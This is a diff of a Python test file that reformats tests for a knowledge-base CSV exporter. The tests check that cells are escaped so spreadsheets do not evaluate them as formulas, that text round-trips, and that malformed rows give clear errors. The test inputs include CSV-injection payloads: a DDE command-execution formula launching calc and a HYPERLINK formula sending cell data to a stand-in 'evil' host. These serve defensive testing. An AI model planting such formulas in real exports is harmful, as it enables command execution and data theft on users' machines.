@@ -20,12 +20,37 @@ from kb.records import Answer, Entry
 from tests.behind import batch, written
 
 COMPUTED = (
-    "=1+1", "+1", "-5", "@SUM(A1)", "- list item", " =1", "\t=1", "\r=1", "\n=1", "'=1", '"=1', "  '\"=1",
-    "＝1", "＋1", "－1", "＠a", "\u00a0=1", "\u200f=1", "\ufeff=1", "\tx", "\rx", "=cmd|' /C calc'!A0", "''=1",
-    '=HYPERLINK("http://evil?"&A1)', "«=1»", "=۱+۱",
-)  # fmt: skip
+    "=1+1",
+    "+1",
+    "-5",
+    "@SUM(A1)",
+    "- list item",
+    " =1",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "'=1",
+    '"=1',
+    "  '\"=1",
+    "＝1",
+    "＋1",
+    "－1",
+    "＠a",
+    "\u00a0=1",
+    "\u200f=1",
+    "\ufeff=1",
+    "\tx",
+    "\rx",
+    "=cmd|' /C calc'!A0",
+    "''=1",
+    '=HYPERLINK("http://evil?"&A1)',
+    "«=1»",
+    "=۱+۱",
+)
 HARMLESS = ("'tis", "1-1", "a=b", "متن", "۱+۱", "'", "")
-BEGINNINGS = st.sampled_from([*COMPUTED, *HARMLESS, "'", "''", " ", "=", "\n", "\r\n", '"', ",", ";", "می\u200cشود"])
+BEGINNINGS = st.sampled_from(
+    [*COMPUTED, *HARMLESS, "'", "''", " ", "=", "\n", "\r\n", '"', ",", ";", "می\u200cشود"]
+)
 ANY = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=12)
 TEXT = st.builds("{}{}{}".format, BEGINNINGS, ANY, BEGINNINGS)
 ASKED = TEXT.filter(str.strip)
@@ -41,9 +66,23 @@ def cells(text: str) -> list[list[str]]:
 
 @pytest.mark.parametrize("text", COMPUTED)
 def test_no_cell_begins_so_that_a_spreadsheet_computes_it(text: str) -> None:
-    book = Book((entry(f"{text}?", number=text, topic=text, tags=(text,),
-                       answers=(Answer("source", "en", text),)),))  # fmt: skip
-    live = [cell for row in cells(written(write, book)) for cell in row if cell[:1] in tuple("=+-@\t\r＝＋－＠")]
+    book = Book(
+        (
+            entry(
+                f"{text}?",
+                number=text,
+                topic=text,
+                tags=(text,),
+                answers=(Answer("source", "en", text),),
+            ),
+        )
+    )
+    live = [
+        cell
+        for row in cells(written(write, book))
+        for cell in row
+        if cell[:1] in tuple("=+-@\t\r＝＋－＠")
+    ]
     assert live == []
     marked = [cell for row in cells(written(write, book)) for cell in row if cell.startswith("'")]
     assert len(marked) >= 4
@@ -64,11 +103,22 @@ def test_what_is_not_computed_is_left_as_it_is(text: str) -> None:
 def test_any_text_comes_back_as_it_was(
     writer: object, en: str, fa: str, source: str, reference: str, fact: str, tags: list[str]
 ) -> None:
-    answers = [("source", "en", source), ("reference", "en", reference), ("source", "fa", reference)]
+    answers = [
+        ("source", "en", source),
+        ("reference", "en", reference),
+        ("source", "fa", reference),
+    ]
     there = Entry(
-        f"x/{fact}1", "card", fact, {"en": en, "fa": fa}, number=fact or None, topic=fact or None,
-        tags=tuple(tags), wording={"en": en}, answers=tuple(Answer(*a) for a in answers if a[2]),
-    )  # fmt: skip
+        f"x/{fact}1",
+        "card",
+        fact,
+        {"en": en, "fa": fa},
+        number=fact or None,
+        topic=fact or None,
+        tags=tuple(tags),
+        wording={"en": en},
+        answers=tuple(Answer(*a) for a in answers if a[2]),
+    )
     text = written(writer, Book((there, entry("another"))))  # type: ignore[arg-type]
     found = batch(read, text, "x.csv")
     assert found.bad == ()
@@ -88,7 +138,11 @@ def test_an_export_is_imported_again_with_its_ids_and_the_reader_told_what_is_no
         assert [each.text for each in report.dropped] == ["snippets", "verdicts"]
         for hit in bundled.list(limit=None).hits:
             here, there = bundled.show(hit.id), other.show(hit.id)
-            assert (here.question, here.tags, here.wording) == (there.question, there.tags, there.wording)
+            assert (here.question, here.tags, here.wording) == (
+                there.question,
+                there.tags,
+                there.wording,
+            )
             for lang in here.languages:
                 for role in ("source", "reference"):
                     assert here.text(role, lang) == there.text(role, lang)
@@ -112,7 +166,11 @@ def test_a_changed_cell_changes_the_text_and_nothing_that_the_table_does_not_hol
     assert after.topic == "another topic"
     assert before.snippets and before.annotations
     assert (after.snippets, after.annotations, after.related, after.origins) == (
-        before.snippets, before.annotations, before.related, before.origins)  # fmt: skip
+        before.snippets,
+        before.annotations,
+        before.related,
+        before.origins,
+    )
 
 
 def refused(text: str) -> BadData:
@@ -133,8 +191,14 @@ HEADER = ",".join(COLUMNS)
         ("", "deck.csv:1: the column 'id' is missing"),
         (HEADER.replace(",lang", ""), "deck.csv:1: the column 'lang' is missing"),
         (f"{HEADER}\na,b\n", "deck.csv:2: has 2 cells instead of 15"),
-        (f"{HEADER}\nx,card,,,,,,en,q,,,,,,\nx,card,,,,,,en,q,,,,,,\n", "deck.csv:3: lang: another row"),
-        (f"{HEADER}\nx,card,,,,,,en,q,,,,,,\nx,note,,,,,,fa,q,,,,,,\n", "deck.csv:3: kind: another row"),
+        (
+            f"{HEADER}\nx,card,,,,,,en,q,,,,,,\nx,card,,,,,,en,q,,,,,,\n",
+            "deck.csv:3: lang: another row",
+        ),
+        (
+            f"{HEADER}\nx,card,,,,,,en,q,,,,,,\nx,note,,,,,,fa,q,,,,,,\n",
+            "deck.csv:3: kind: another row",
+        ),
         (f'{HEADER}\nx,card,,,,,,en,"q\n\nr,,,,,,\n', "deck.csv:2: this is not CSV"),
         (f"{HEADER}\n\n,card,,,,,,en,q,,,,,,\n", "deck.csv:3: id: is empty"),
         (f"{HEADER}\nx,crad,,,,,,en,q,,,,,,\n", "deck.csv:2: kind: 'crad' is not one of"),
